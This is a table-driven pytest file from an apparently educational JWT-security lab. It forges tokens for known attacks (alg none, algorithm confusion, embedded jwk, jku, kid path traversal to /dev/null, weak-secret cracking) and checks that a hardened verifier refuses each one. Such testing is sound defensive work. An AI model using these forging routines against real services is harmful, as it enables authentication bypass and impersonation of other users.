"""The attack matrix (issue 11 §4): every attack against the hardened default, against its own
mistake, and against every other mistake, in one table-driven test.

Each attack is forged by the attacker from what they really hold (:class:`~.worlds.Holdings`: a
token, the issuer's public JWKS, the simulated internet, their own keys) with PyJWT and
cryptography — or, where PyJWT refuses to build the token (an empty, PEM-shaped or short HMAC
key; ``alg: nOnE``), with the fence's own PyJWS (:func:`tokenlab.attacks.encode`). Never with a
server's private key.

For every attack the table says:

- the error the hardened default refuses it with (class, the parameter or claim it names, and
  ``invalid_token``);
- the mistake(s) that open it — several only when each one alone still stops it;
- what else opens it ("also opened by"), with the reason: skipping the signature opens every
  forgery; a header-chosen algorithm opens ``alg: none`` too, as in the libraries of 2015 — but
  only the registered, lower-case ``none`` (JOSE compares ``alg`` case-sensitively, RFC 7515
  §4.1.1), so ``nOnE`` needs a verifier that compares case-insensitively.

Every other mistake leaves it refused with the hardened error. The weak HMAC secret is a
setting of an HS256 authorization server, so it is tried against the attacks on HS256 servers.
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import ECAlgorithm
from jwt.utils import base64url_encode

from tokenlab import (
    AlgorithmNotAllowedError,
    InvalidAudienceError,
    InvalidHeaderError,
    InvalidSignatureError,
    MissingClaimError,
    Request,
    TokenError,
    UnknownKeyError,
)
from tokenlab.attacks import WORDS, crack_hs256, encode
from tokenlab.jose.policy import INSECURE_SWITCHES

from . import worlds
from .worlds import API, ATTACKER_JWKS, HELD_SCOPE, SERVICE_SCOPE, WIDER_SCOPE, Holdings

#: The server setting of issue 11 §3, beside the verifier's switches.
HMAC_SECRET = "insecure_hmac_secret"
SWITCHES = (*INSECURE_SWITCHES, HMAC_SECRET)
#: The weak secret of the HS256 server in the weak-secret world: a word of the course's list.
WEAK_SECRET = "weather-app"


# -- the attacker's tools: what they hold, PyJWT, cryptography -----------------------------------

def held_claims(h: Holdings) -> dict[str, Any]:
    """The claims of the token the attacker holds: anyone can read them, no key needed."""
    return dict(jwt.decode(h.token, options={"verify_signature": False}))


def held_kid(h: Holdings) -> str:
    return str(jwt.get_unverified_header(h.token)["kid"])


def escalated(h: Holdings) -> dict[str, Any]:
    """The held claims, made someone else's (Alice's) with a wider scope."""
    return {**held_claims(h), "sub": "alice", "scope": WIDER_SCOPE, "jti": "forged-1"}


def b64json(value: Mapping[str, Any]) -> str:
    return base64url_encode(json.dumps(value, separators=(",", ":")).encode()).decode()


def own_es256_key() -> tuple[ec.EllipticCurvePrivateKey, dict[str, Any]]:
    """A key pair the attacker makes for themselves, and its public JWK."""
    private = ec.generate_private_key(ec.SECP256R1())
    jwk = ECAlgorithm.to_jwk(private.public_key(), as_dict=True)
    return private, {**jwk, "kid": "mallory-1", "alg": "ES256", "use": "sig"}


def forge_alg_none(h: Holdings) -> str:
    return jwt.encode(escalated(h), None, algorithm="none",
                      headers={"kid": held_kid(h), "typ": "at+jwt"})


def forge_alg_none_any_case(h: Holdings) -> str:
    # PyJWT knows no algorithm 'nOnE'; the fence's PyJWS signs it (with nothing).
    return encode(escalated(h), None, "nOnE", headers={"kid": held_kid(h), "typ": "at+jwt"})


def forge_signature_stripped(h: Holdings) -> str:
    header = h.token.split(".")[0]
    return f"{header}.{b64json(escalated(h))}."


def forge_signature_garbage(h: Holdings) -> str:
    header = h.token.split(".")[0]
    garbage = base64url_encode(secrets.token_bytes(64)).decode()
    return f"{header}.{b64json(escalated(h))}.{garbage}"


def forge_alg_confusion(h: Holdings) -> str:
    """The RS256 public key from the JWKS, as PEM (SubjectPublicKeyInfo, as cryptography writes
    it), becomes the HS256 secret. PyJWT refuses a PEM-shaped HMAC key; the fence's PyJWS not."""
    kid = held_kid(h)
    jwk = next(k for k in h.jwks["keys"] if k["kid"] == kid)
    public = jwt.PyJWK(jwk).key
    pem = public.public_bytes(serialization.Encoding.PEM,
                              serialization.PublicFormat.SubjectPublicKeyInfo)
    return encode(escalated(h), pem, "HS256", headers={"kid": kid, "typ": "at+jwt"})


def forge_embedded_jwk(h: Holdings) -> str:
    private, jwk = own_es256_key()
    return jwt.encode(escalated(h), private, algorithm="ES256",
                      headers={"kid": jwk["kid"], "typ": "at+jwt", "jwk": jwk})


def forge_jku(h: Holdings) -> str:
    private, jwk = own_es256_key()
    h.internet.host(ATTACKER_JWKS, {"keys": [jwk]})
    return jwt.encode(escalated(h), private, algorithm="ES256",
                      headers={"kid": jwk["kid"], "typ": "at+jwt", "jku": ATTACKER_JWKS})


def forge_kid_traversal(h: Holdings) -> str:
    # /dev/null reads as nothing: the HMAC key is empty (PyJWT refuses an empty key).
    return encode(escalated(h), b"", "HS256",
                  headers={"kid": "../../../../../../dev/null", "typ": "at+jwt"})


def forge_with_cracked_secret(h: Holdings) -> str:
    """Offline: try every word of the course's list on the held token; sign with the one that
    fits — or, when none does, with the attacker's best guess."""
    found = crack_hs256(h.token, WORDS)
    secret = found.secret if found is not None else WORDS[0]
    return encode(escalated(h), secret.encode(), "HS256",
                  headers={"kid": held_kid(h), "typ": "at+jwt"})


def present_as_held(h: Holdings) -> str:
    """No forgery: the token the attacker holds, presented where it does not belong."""
    return h.token


# -- the table -----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    name: str
    #: The authorization server's algorithm in this attack's world.
    world: str
    holding: str
    forge: Callable[[Holdings], str]
    #: What the hardened default raises, and the header parameter or claim it names.
    refused_with: type[TokenError]
    names: str
    #: The mistake(s) that open it, all needed together.
    opened_by: frozenset[str]
    #: Other mistakes that open it too, each with the reason.
    also_opened_by: Mapping[frozenset[str], str] = field(default_factory=dict)
    #: When several mistakes are needed: what each one alone still raises.
    alone: Mapping[str, type[TokenError]] = field(default_factory=dict)
    #: The request it is used for: the scope asked, and whose token it then is.
    scope: str | None = WIDER_SCOPE
    sub: str = "alice"


SKIP = frozenset({"insecure_skip_signature"})
EVERY_FORGERY = "skipping the signature opens every forgery"

ATTACKS: tuple[Attack, ...] = (
    Attack("alg none", "EdDSA", "own access token", forge_alg_none,
           AlgorithmNotAllowedError, "alg", frozenset({"insecure_accept_none"}),
           {frozenset({"insecure_alg_from_header"}):
                "the header picks the algorithm, and 'none' is in the table, as in 2015's libraries",
            SKIP: EVERY_FORGERY}),
    Attack("alg nOnE", "EdDSA", "own access token", forge_alg_none_any_case,
           AlgorithmNotAllowedError, "alg", frozenset({"insecure_accept_none"}),
           {SKIP: EVERY_FORGERY}),
    Attack("signature stripped", "EdDSA", "own access token", forge_signature_stripped,
           InvalidSignatureError, "", SKIP),
    Attack("garbage signature", "EdDSA", "own access token", forge_signature_garbage,
           InvalidSignatureError, "", SKIP),
    Attack("algorithm confusion RS256 to HS256", "RS256", "own access token",
           forge_alg_confusion, AlgorithmNotAllowedError, "alg",
           frozenset({"insecure_alg_from_header"}), {SKIP: EVERY_FORGERY}),
    Attack("embedded jwk", "EdDSA", "own access token", forge_embedded_jwk,
           InvalidHeaderError, "jwk", frozenset({"insecure_trust_jwk_header"}),
           {SKIP: EVERY_FORGERY}),
    Attack("jku to the attacker's JWKS", "EdDSA", "own access token", forge_jku,
           InvalidHeaderError, "jku", frozenset({"insecure_trust_jku_header"}),
           {SKIP: EVERY_FORGERY}),
    Attack("kid path traversal to /dev/null", "HS256", "own access token", forge_kid_traversal,
           UnknownKeyError, "kid", frozenset({"insecure_kid_as_path"}), {SKIP: EVERY_FORGERY}),
    Attack("weak HS256 secret cracked", "HS256", "own access token", forge_with_cracked_secret,
           InvalidSignatureError, "", frozenset({HMAC_SECRET}), {SKIP: EVERY_FORGERY}),
    Attack("ID token as access token", "EdDSA", "alice's ID token", present_as_held,
           InvalidHeaderError, "typ", frozenset({"insecure_skip_typ", "insecure_skip_audience"}),
           alone={"insecure_skip_typ": InvalidAudienceError,
                  "insecure_skip_audience": InvalidHeaderError},
           scope=None),
    Attack("token for another audience", "EdDSA", "alice's token for photos", present_as_held,
           InvalidAudienceError, "aud", frozenset({"insecure_skip_audience"}), scope=HELD_SCOPE),
    Attack("token without exp", "EdDSA", "leaked service token", present_as_held,
           MissingClaimError, "exp", frozenset({"insecure_exp_optional"}), scope=SERVICE_SCOPE,
           sub="nightly-sync"),
)


def configurations(attack: Attack) -> Iterator[tuple[frozenset[str], bool]]:
    """``(mistakes on, accepted?)``: the hardened default, its own mistake(s), what else opens
    it, then every other single mistake."""
    yield frozenset(), False
    yield attack.opened_by, True
    yield from ((c, True) for c in attack.also_opened_by)
    for switch in SWITCHES:
        config = frozenset({switch})
        if config == attack.opened_by or config in attack.also_opened_by:
            continue
        if switch == HMAC_SECRET and attack.world != "HS256":
            continue  # a setting of HS256 servers only
        yield config, False


CASES = [pytest.param(a, c, ok, id=f"{a.name} | {' + '.join(sorted(c)) or 'hardened default'}")
         for a in ATTACKS for c, ok in configurations(a)]


def param_of(err: TokenError) -> str:
    return str(getattr(err, "parameter", None) or getattr(err, "claim", None) or "")


@pytest.mark.parametrize(("attack", "mistakes", "accepted"), CASES)
def test_rfc8725_attack_matrix(attack: Attack, mistakes: frozenset[str], accepted: bool) -> None:
    api, holdings = worlds.build(attack.world, attack.holding,
                                 switches=mistakes - {HMAC_SECRET},
                                 weak_secret=WEAK_SECRET if HMAC_SECRET in mistakes else None)
    token = attack.forge(holdings)
    over_http = Request.get(f"{API}/whoami", {"Authorization": f"Bearer {token}"})
    if accepted:
        claims = api.verify(token, scope=attack.scope)
        assert claims["sub"] == attack.sub
        if attack.scope is not None:
            assert set(attack.scope.split()) <= set(claims.scopes)
        response = api.handle(over_http)
        assert response.status == 200 and response.json()["sub"] == attack.sub
        # Nothing hides the mistake: the API's repr and its answer on the wire say INSECURE.
        for name in mistakes:
            assert f"INSECURE: {name}" in repr(api)
            assert name in api.wire.events[-1].outcome
        assert "[INSECURE: " in api.wire.events[-1].outcome
        return
    expected = attack.refused_with
    if mistakes and mistakes < attack.opened_by:
        (alone,) = mistakes
        expected = attack.alone[alone]
    with pytest.raises(TokenError) as ei:
        api.verify(token, scope=attack.scope)
    err = ei.value
    assert type(err) is expected, f"{type(err).__name__}: {err.description}"
    assert (err.error, err.status) == ("invalid_token", 401)
    if expected is attack.refused_with:
        assert param_of(err) == attack.names
    response = api.handle(over_http)
    assert response.status == 401 and response.json()["error"] == "invalid_token"
    if not mistakes:
        assert "INSECURE" not in repr(api) and "INSECURE" not in str(api.wire)


def test_the_matrix_covers_every_mistake_and_opens_each_attack_only_as_the_table_says() -> None:
    """The table itself: every switch (and the weak secret) opens at least one attack; every
    attack is refused by default and opened by something; the multi-mistake attacks say what
    each mistake alone still raises; the "also opened by" entries give a reason."""
    opened = {s for a in ATTACKS for s in a.opened_by}
    assert opened == set(SWITCHES)
    assert len(INSECURE_SWITCHES) == 9
    for a in ATTACKS:
        assert a.opened_by and a.opened_by <= set(SWITCHES)
        assert all(reason for reason in a.also_opened_by.values())
        assert (len(a.opened_by) > 1) == bool(a.alone)
        assert set(a.alone) <= a.opened_by
    assert len(CASES) >= 12 * 10
    # skipping the signature opens every forgery, and nothing that is not one
    forgeries = {a.name for a in ATTACKS if a.forge is not present_as_held}
    assert {a.name for a in ATTACKS if a.opened_by == SKIP or SKIP in a.also_opened_by} == forgeries
